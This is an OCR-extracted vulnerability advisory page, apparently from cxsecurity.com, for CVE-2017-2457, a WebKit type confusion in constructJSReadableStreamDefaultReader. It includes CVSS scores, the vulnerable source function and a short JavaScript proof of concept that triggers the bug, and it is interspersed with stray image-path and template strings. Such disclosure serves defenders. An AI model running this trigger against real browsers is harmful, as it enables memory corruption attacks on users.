WebKit constructJSReadableStreamDefaultReader Type Confusion

Credit: lokihardt
Risk: Medium
Local: No
Remote: Yes

CVSS Base Score: 6.8/10
Impact Subscore: 6.4/10
Exploitability Subscore: 8.6/10
Exploit range: Remote
Attack complexity: Medium
Authentication: No required
Confidentiality impact: PartialIntegrity impact: Partial
Availability impact: Partial

WebKit: Type confusion in constructJSReadableStreamDefaultReader CVE-2017-2457 EncodedJSValue JSC_HOST_CALL constructJSReadableStreamDefaultReader(ExecState& exec) { VM& vm = exec.vm(); auto scope = DECLARE_THROW_SCOPE(vm); JSReadableStream* stream = jsDynamicDowncast<JSReadableStream*>(exec.argument(0)); if (!stream) return throwArgumentTypeError(exec, scope, 0, "stream", "ReadableStreamReader", nullptr,"ReadableStream"); JSValue jsFunction = stream->get(&exec, Identifier::fromString(&exec, "getReader")); <<--- 1 CallData callData; CallType callType = getCallData(jsFunction, callData); MarkedArgumentBuffer noArguments; return JSValue::encode(call(&exec, jsFunction, callType, callData, stream, noArguments)); } It doesn't check whether |getReader| is callable or not. PoC: let rs = new ReadableStream(); let cons = rs.getReader().constructor; rs.getReader = 0x12345; new cons(rs); Tested on Webkit Nightly 10.0.2(12602., <a href="https://crrev.com/210800" title="" class="" rel="nofollow">r210800</a>) This bug is subject to a 90 day disclosure deadline. If 90 days elapse without a broadly available patch,then the bug report will automatically become visible to the public. Found by: lokihardt

Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux *1000 | date:'yyyy-MM-dd' }} {{ x.ux *1000 | date:'HH:mm' }} CET+1
{{ x.comment }}

Copyright 2018, cxsecurity.com


Back to Top